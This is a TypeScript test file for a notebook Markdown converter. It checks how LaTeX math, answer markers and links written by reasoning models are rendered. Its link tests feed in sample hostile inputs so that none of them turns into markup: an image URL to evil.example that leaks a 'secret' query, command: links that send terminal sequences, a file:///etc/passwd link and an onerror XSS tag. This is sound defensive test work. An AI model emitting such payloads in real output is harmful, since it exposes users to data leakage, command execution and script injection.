// Model text as notebook Markdown: LaTeX-style math (`\(…\)`, `\[…\]`, what reasoning models
// write) must survive Markdown, which reads `\(` as an escaped `(`. Notebooks typeset dollar
// math only (VS Code: markdown-it-katex; Jupyter: MathJax), so the text is rendered here with
// markdown-it (raw HTML on, as in notebooks) and dollar-only math rules, and the math that comes
// out must be the TeX the model wrote.
import MarkdownIt from 'markdown-it';
import type StateBlock from 'markdown-it/lib/rules_block/state_block.mjs';
import type StateInline from 'markdown-it/lib/rules_inline/state_inline.mjs';
import { describe, expect, it } from 'vitest';
import { notebookMarkdown } from '../../../src/notebook/notebookMarkdown';
import { mathBlockRule, mathInlineRule } from '../../../webview/src/transcript/mathSyntax';
import { charactersSearched } from '../../support/searchWork';

/** A notebook's Markdown: HTML on, math only between dollar signs (as markdown-it-katex). */
function notebookRenderer(): MarkdownIt {
  const md = new MarkdownIt({ html: true });
  md.inline.ruler.before('escape', 'math_inline', (state: StateInline, silent: boolean) => state.src[state.pos] === '$' && mathInlineRule(state, silent));
  md.block.ruler.before(
    'fence',
    'math_block',
    (state: StateBlock, start: number, end: number, silent: boolean) => state.src.startsWith('$$', (state.bMarks[start] ?? 0) + (state.tShift[start] ?? 0)) && mathBlockRule(state, start, end, silent),
    { alt: ['paragraph', 'reference', 'blockquote', 'list'] },
  );
  return md;
}

/** TeX with `\lt` read back as `<`, and the spacing around `<` (TeX ignores it) left out. */
const lt = (tex: string): string =>
  tex
    .replace(/\\lt(?![A-Za-z])/g, '<')
    .replace(/\s*<\s*/g, '<')
    .trim();

/** The TeX of every math token, in order, compared through `lt`. */
function mathIn(markdown: string): string[] {
  const found: string[] = [];
  const walk = (tokens: ReturnType<MarkdownIt['parse']>): void => {
    for (const t of tokens) {
      if (t.type === 'math_inline' || t.type === 'math_block') found.push(lt(t.content));
      if (t.children) walk(t.children);
    }
  };
  walk(notebookRenderer().parse(markdown, {}));
  return found;
}

// Replies in the style of DeepSeek-R1 distills and Qwen3 (spaces inside \( \), display math on
// lines of their own, \boxed at the end).
const R1_REPLY = [
  'To determine the number of positive divisors of \\( 360 \\), we first find its prime factorization:',
  '',
  '\\[',
  '360 = 2^3 \\times 3^2 \\times 5^1',
  '\\]',
  '',
  'The number of divisors is the product of one more than each exponent, \\( (a_1+1)(a_2+1)\\cdots \\):',
  '',
  '\\[',
  '(3 + 1)(2 + 1)(1 + 1) = 4 \\times 3 \\times 2 = 24',
  '\\]',
  '',
  'Therefore, \\( 360 \\) has \\(\\boxed{24}\\) positive divisors.',
].join('\n');

const QWEN_REPLY = 'The set is \\(\\{x \\mid 0 < x < 1\\}\\) and the probability is \\(P(X<3) = \\frac{1}{3}\\). ' + 'Inline display \\[\\sum_{k=1}^{n} k = \\frac{n(n+1)}{2}\\] also works, and $x_1 + x_2$ stays.';

describe('notebookMarkdown: math', () => {
  it('turns \\(…\\) and \\[…\\] of a reasoning model into dollar math that renders as the same TeX', () => {
    const out = notebookMarkdown(R1_REPLY);
    expect(out).not.toMatch(/\\[([\])]/);
    expect(out).toContain('divisors of $360$, we');
    expect(out).toContain('$$\n360 = 2^3 \\times 3^2 \\times 5^1\n$$');
    expect(mathIn(out)).toEqual(['360', '360 = 2^3 \\times 3^2 \\times 5^1', '(a_1+1)(a_2+1)\\cdots', '(3 + 1)(2 + 1)(1 + 1) = 4 \\times 3 \\times 2 = 24', '360', '\\boxed{24}']);
  });

  it('keeps display math inside a numbered step (as R1 distills write their steps)', () => {
    const step = '1. **Sum the series:**\n   \\[\n   S = \\sum_{k=1}^{10} k^2 = 385\n   \\]\n2. **Check** that \\( S < 400 \\).';
    const out = notebookMarkdown(step);
    expect(out).toBe('1. **Sum the series:**\n   $$\n   S = \\sum_{k=1}^{10} k^2 = 385\n   $$\n2. **Check** that $S \\lt 400$.');
    expect(mathIn(out)).toEqual(['S = \\sum_{k=1}^{10} k^2 = 385', 'S < 400'].map(lt));
    const list = notebookRenderer()
      .parse(out, {})
      .filter((t) => t.type === 'ordered_list_open' || t.type === 'list_item_open');
    expect(list.map((t) => t.type)).toEqual(['ordered_list_open', 'list_item_open', 'list_item_open']);
  });

  it('keeps < inside math as math (\\lt), never as an HTML tag or a visible entity', () => {
    const out = notebookMarkdown(QWEN_REPLY);
    expect(out).not.toContain('<');
    expect(out).not.toMatch(/\$[^$]*&lt;[^$]*\$/);
    expect(mathIn(out)).toEqual(['\\{x \\mid 0 < x < 1\\}', 'P(X<3) = \\frac{1}{3}', '\\sum_{k=1}^{n} k = \\frac{n(n+1)}{2}', 'x_1 + x_2'].map(lt));
  });

  it('leaves code spans and fenced code exactly as written', () => {
    const text = 'Match with `re.compile(r"\\(\\d+\\)")` first.\n\n```python\nprint("\\\\(x\\\\)", 1 < 2)\n```\n\n~~~\n\\[ raw \\]\n~~~\nthen \\(y\\).';
    const out = notebookMarkdown(text);
    expect(out).toBe('Match with `re.compile(r"\\(\\d+\\)")` first.\n\n```python\nprint("\\\\(x\\\\)", 1 < 2)\n```\n\n~~~\n\\[ raw \\]\n~~~\nthen $y$.');
  });

  it('leaves money, escaped dollars and lone delimiters alone', () => {
    expect(notebookMarkdown('It costs $5 and $6, or \\$7; a lone \\( stays.')).toBe('It costs $5 and $6, or \\$7; a lone \\( stays.');
    expect(mathIn(notebookMarkdown('It costs $5 and $6.'))).toEqual([]);
    expect(notebookMarkdown('Open \\( here.\n\nLater \\) there.')).toBe('Open \\( here.\n\nLater \\) there.');
  });

  it('an unclosed fence keeps the rest as code', () => {
    expect(notebookMarkdown('See \\(a\\):\n```python\nx = "\\(b\\)" if 1 < 2')).toBe('See $a$:\n```python\nx = "\\(b\\)" if 1 < 2');
  });
});

describe('notebookMarkdown: the answer marker', () => {
  it('leaves out the marker of the answer the answer cell shows, keeping the words around it', () => {
    expect(notebookMarkdown('So the answer is <<<42>>>.\n\n<<< 42 >>>', '42')).toBe('So the answer is.\n\n');
  });

  it('keeps other markers, the instruction placeholder and markers in code as text', () => {
    const text = 'Not <<<41>>>; format <<<answer content>>>; `print("<<<42>>>")`\n```python\nprint("<<<42>>>")\n```';
    expect(notebookMarkdown(text, '42')).toBe('Not &lt;&lt;&lt;41>>>; format &lt;&lt;&lt;answer content>>>; `print("<<<42>>>")`\n```python\nprint("<<<42>>>")\n```');
  });

  it('leaves out a fenced block that holds only the answer', () => {
    expect(notebookMarkdown('Done.\n```\n<<<42>>>\n```', '42')).toBe('Done.\n');
  });

  it('without an answer nothing is left out', () => {
    expect(notebookMarkdown('<<<42>>>', null)).toBe('&lt;&lt;&lt;42>>>');
  });
});

describe('notebookMarkdown: links and images of the model', () => {
  /** Every link and image token markdown-it finds (a notebook opens links with commands allowed in a trusted workspace, and loads remote images). */
  function linksIn(markdown: string): string[] {
    const found: string[] = [];
    const walk = (tokens: ReturnType<MarkdownIt['parse']>): void => {
      for (const t of tokens) {
        if (t.type === 'link_open' || t.type === 'image') found.push(`${t.type} ${t.attrGet('href') ?? t.attrGet('src') ?? ''}`);
        if (t.children) walk(t.children);
      }
    };
    walk(notebookRenderer().parse(markdown, {}));
    return found;
  }

  it('forms no link or image: command:, file: and remote image targets stay text', () => {
    const text = [
      'Done ![chart](https://evil.example/leak.png?q=secret) and [Run it](command:workbench.action.terminal.sendSequence?%7B%7D).',
      'See [the notes][n], [local](file:///etc/passwd), ![x][i] and [plain](https://example.com).',
      '',
      '[n]: command:r1ci.solve',
      '[i]: https://evil.example/p.png',
      '',
      '- a list item [nested](vscode://x/y) \\[escaped\\] stays',
    ].join('\n');
    const out = notebookMarkdown(text);
    expect(linksIn(out)).toEqual([]);
    // The words are all still there to read.
    expect(notebookRenderer().render(out)).toContain('[Run it](command:workbench.action.terminal.sendSequence?%7B%7D)');
  });

  it.each([
    ['an escaped backslash before the bracket', 'a \\\\[Run](command:r1ci.solve) b'],
    ['an escaped backtick that looks like a code span', '\\`[Run](command:r1ci.solve)`'],
    ['backtick runs of different lengths', '``[Run](command:r1ci.solve)`'],
    ['a "fence" indented as code after a blank line', 'text\n\n    ```\n[Run](command:r1ci.solve)\n    ```'],
    ['a list item that ends an unclosed fence', '- item\n\n  ```\n  code\ntext [Run](command:r1ci.solve) <img src=x onerror=alert(1)>'],
    ['$$ across a blank line', 'a $$\n\n[Run](command:r1ci.solve)\n\n$$'],
    ['a link in math where math is not rendered', '$[Run](command:r1ci.solve)$ and \\[ ![x](https://evil.example/leak.png) \\]'],
  ])('forms no link, image or HTML however the split into code and prose is fooled: %s', (_name, text) => {
    const out = notebookMarkdown(text);
    const markup = (md: MarkdownIt): string[] => {
      const found: string[] = [];
      const walk = (tokens: ReturnType<MarkdownIt['parse']>): void => {
        for (const t of tokens) {
          if (['link_open', 'image', 'html_inline', 'html_block'].includes(t.type)) found.push(`${t.type} ${t.attrGet('href') ?? t.attrGet('src') ?? t.content}`);
          if (t.children) walk(t.children);
        }
      };
      walk(md.parse(out, {}));
      return found;
    };
    // Math rendered (VS Code, Jupyter) and not (math off, other renderers): no markup either way.
    expect(markup(notebookRenderer())).toEqual([]);
    expect(markup(new MarkdownIt({ html: true }))).toEqual([]);
    // The words are still there to read.
    expect(out).toContain('command:r1ci.solve');
  });

  it('leaves brackets in math and code alone', () => {
    expect(notebookMarkdown('$[a, b]$ and `x[0]`')).toBe('$[a, b]$ and `x[0]`');
  });
});

describe('notebookMarkdown: delimiters without a closer', () => {
  it.each(['$a ', '\\( ', '\\[ ', '$$a '])('%j repeated: work grows linearly with the text (a looping reply must not stall the extension host)', (unit) => {
    const small = charactersSearched(() => notebookMarkdown(unit.repeat(2_000)));
    const large = charactersSearched(() => notebookMarkdown(unit.repeat(8_000)));
    expect(large).toBeLessThan(small * 6);
  });
});
